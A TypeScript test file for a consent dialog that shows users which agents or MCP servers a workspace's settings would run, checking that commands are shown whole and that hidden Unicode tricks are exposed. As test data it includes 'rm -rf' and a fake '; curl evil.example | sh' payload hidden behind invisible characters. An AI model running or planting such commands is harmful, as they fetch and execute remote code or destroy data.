import assert from 'node:assert/strict';
import {
  dialogChoicesFor,
  dialogDetailsOf,
  isTooLongForDialog,
  dialogQuestionOf,
  fitsOneDialog,
  groupDetailsOf,
  groupQuestionOf,
  type ConsentSubject,
} from '../../../src/consent/common/consentSubject';

const subject: ConsentSubject = {
  kind: 'agent',
  name: 'Mine\u202e',
  source: { file: '/work/.vscode/settings.json', keys: ['backline.acp.agents', 'Mine'] },
  facts: [
    { label: 'Command', value: 'node agent.mjs\nrm -rf' },
    { label: 'Variable PATH', value: './bin', warning: 'decides which program runs' },
  ],
  hash: '0'.repeat(64),
};

describe('the question for what a workspace brings', () => {
  it('reports what it is, what would run, what changes that, and where it is written', () => {
    assert.equal(dialogQuestionOf(subject), 'Allow the agent "Mine[U+202E]" from this workspace to run?');
    const details = dialogDetailsOf({ subject, hasChanged: false });
    assert.match(details, /^Command: node agent\.mjs\\nrm -rf$/m);
    assert.match(details, /^⚠ Variable PATH: \.\/bin \(decides which program runs\)$/m);
    assert.match(details, /^From \/work\/\.vscode\/settings\.json, backline\.acp\.agents → Mine$/m);
    assert.match(details, /You’ll be asked again if the entry or a file named above changes\.$/);
    assert.doesNotMatch(details, /changed since/);
    assert.match(dialogDetailsOf({ subject, hasChanged: true }), /^It has changed since your last answer\.$/m);
  });

  it('recognizes content that is too long for a dialog, and reports that there is more', () => {
    assert.equal(isTooLongForDialog(subject), false);
    const long = { ...subject, facts: [{ label: 'Command', value: 'x'.repeat(1_000) }] };
    const many = { ...subject, facts: Array.from({ length: 60 }, (_, at) => ({ label: `V${at}`, value: 'x' })) };
    assert.deepEqual([isTooLongForDialog(long), isTooLongForDialog(many)], [true, true]);
    assert.match(dialogDetailsOf({ subject: long, hasChanged: false }), /… \(600 more characters\)/);
    assert.match(
      dialogDetailsOf({ subject: many, hasChanged: false }),
      /… and 36 more\.$[^]*Select Show to review it/m,
    );
  });

  it('allows nothing whose end is cut, as hidden characters are longer when they are shown', () => {
    const end = '; curl evil.example | sh';
    for (const hidden of ['\ue000', '\u200b', '\u202e', '\t', '\n', '\u0007', 'x']) {
      for (const count of [1, 20, 60, 79, 80, 390, 400]) {
        const text = `${hidden.repeat(count)}${end}`;
        for (const fact of [
          { label: 'Command', value: text },
          { label: text, value: 'x' },
        ]) {
          const brought = { ...subject, facts: [fact] };
          assert.ok(
            isTooLongForDialog(brought) || dialogDetailsOf({ subject: brought, hasChanged: false }).includes(end),
            JSON.stringify(fact),
          );
        }
      }
    }
    assert.equal(isTooLongForDialog({ ...subject, facts: [{ label: 'n'.repeat(80), value: 'x'.repeat(400) }] }), false);
  });

  it('is one for several subjects that it shows whole', () => {
    const server = { ...subject, kind: 'mcpServer', name: 'b' } as const;
    assert.equal(groupQuestionOf('mcpServer', 2), 'Allow agents to use the 2 MCP servers from this workspace?');
    const asked = [
      { subject: { ...server, name: 'a\n' }, hasChanged: true },
      { subject: server, hasChanged: false },
    ];
    const details = groupDetailsOf(asked);
    const facts = 'Command: node agent.mjs\\nrm -rf\n⚠ Variable PATH: ./bin (decides which program runs)\n';
    const from = 'From /work/.vscode/settings.json\n';
    const expected = `"a\\n" (has changed since your last answer)\n${facts}\n"b"\n${facts}\n${from}`;
    assert.ok(details.startsWith(expected), details);
    const other = { ...server, source: { file: '/work/.mcp.json', keys: ['mcpServers', 'b'] } };
    assert.match(
      groupDetailsOf([...asked, { subject: other, hasChanged: false }]),
      /^From \/work\/\.mcp\.json, mcpServers → b$/m,
    );
    assert.equal(details.match(/You’ll be asked again/g)?.length, 1);
  });

  it('is not one for several subjects of which something would be cut', () => {
    const of = (...facts: readonly (readonly [label: string, value: string])[]): ConsentSubject => ({
      ...subject,
      facts: facts.map(([label, value]) => ({ label, value })),
    });
    const small = of(['Command', 'x']);
    assert.ok(fitsOneDialog([small, small]));
    assert.ok(!fitsOneDialog([small, of(['Command', 'x'.repeat(401)])]));
    assert.ok(!fitsOneDialog([small, { ...small, name: 'n'.repeat(81) }]));
    assert.ok(fitsOneDialog(Array.from({ length: 12 }, () => small)));
    assert.ok(!fitsOneDialog(Array.from({ length: 13 }, () => small)));
  });

  it('offers to allow only what can be read whole, in the dialog or in a file', () => {
    assert.deepEqual(dialogChoicesFor(subject), { canAllow: true, canShow: true });
    const long = { ...subject, facts: [{ label: 'Command', value: 'x'.repeat(1_000) }] };
    assert.deepEqual(dialogChoicesFor(long), { canAllow: false, canShow: true });
    const nowhere = { ...long, source: { file: undefined, keys: ['a'] } };
    assert.deepEqual(dialogChoicesFor(nowhere), { canAllow: false, canShow: false });
    assert.match(dialogDetailsOf({ subject: nowhere, hasChanged: false }), /can’t be allowed\. Shorten the entry\./);
    assert.doesNotMatch(dialogDetailsOf({ subject: nowhere, hasChanged: false }), /Choose Show/);
  });
});
